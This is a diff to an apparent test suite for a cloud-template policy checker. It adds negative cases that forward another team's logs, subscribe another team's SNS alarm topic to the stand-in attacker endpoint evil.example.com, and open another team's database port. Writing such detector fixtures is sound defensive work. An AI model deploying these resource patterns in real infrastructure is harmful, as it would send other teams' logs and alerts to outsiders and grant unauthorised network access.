@@ -194,6 +194,31 @@ def anothers_function_may_be_called(t: Template) -> None:
     )
 
 
+@breaks("foreign.attachment", "high")
+def another_teams_logs_are_forwarded(t: Template) -> None:
+    add(
+        t,
+        "Bad",
+        "AWS::Logs::SubscriptionFilter",
+        LogGroupName="/portal/orders-dev/api",
+        FilterPattern="",
+        DestinationArn="x",
+    )
+
+
+@breaks("foreign.attachment", "high")
+def another_teams_topic_is_subscribed_to(t: Template) -> None:
+    arn = {"Fn::Sub": "arn:aws:sns:${AWS::Region}:${AWS::AccountId}:orders-dev-alarms"}
+    add(t, "Bad", "AWS::SNS::Subscription", TopicArn=arn, Protocol="https", Endpoint="https://evil.example.com")
+
+
+@breaks("foreign.attachment", "high")
+def another_teams_group_is_opened_by_a_parameter(t: Template) -> None:
+    t["Parameters"] = {"Group": {"Type": "AWS::EC2::SecurityGroup::Id"}}
+    rule = {"IpProtocol": "tcp", "FromPort": 5432, "ToPort": 5432, "CidrIp": "10.0.0.0/8"}
+    add(t, "Bad", "AWS::EC2::SecurityGroupIngress", GroupId=ref("Group"), **rule)
+
+
 @breaks("foreign.role", "high")
 def a_task_with_anothers_role(t: Template) -> None:
     properties(t, "AWS::ECS::TaskDefinition", "ServiceApi")["TaskRoleArn"] = "arn:aws:iam::100000000001:role/Admin"
